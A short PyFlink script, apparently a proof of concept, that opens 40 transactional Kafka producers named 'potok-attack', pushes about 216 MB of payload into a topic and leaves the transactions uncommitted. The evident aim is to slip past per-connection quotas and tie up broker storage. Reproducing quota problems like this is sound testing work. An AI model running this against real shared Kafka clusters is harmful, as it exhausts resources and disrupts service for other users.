from pyflink.java_gateway import get_gateway

gateway = get_gateway()
jvm = gateway.jvm

NAMES = "org.apache.flink.kafka.shaded.org.apache.kafka"
kafka = jvm.org.apache.flink.kafka.shaded.org.apache.kafka

settings = jvm.java.util.Properties()
settings.put("bootstrap.servers", "localhost:9092")
settings.put("max.block.ms", "20000")
for name in ("key", "value"):
    settings.put(
        f"{name}.serializer",
        NAMES + ".common.serialization.ByteArraySerializer",
    )
row = gateway.new_array(jvm.byte, 900_000)
# Each connection may send a little before the quota holds it back.
producers = []
for number in range(40):
    settings.put("transactional.id", f"potok-attack-{number}")
    producer = kafka.clients.producer.KafkaProducer(settings)
    producer.initTransactions()
    producer.beginTransaction()
    producers.append(producer)
    for _ in range(6):
        producer.send(kafka.clients.producer.ProducerRecord("totals", row))
for producer in producers:
    producer.flush()
print("through: 216 MB that nobody reads", flush=True)
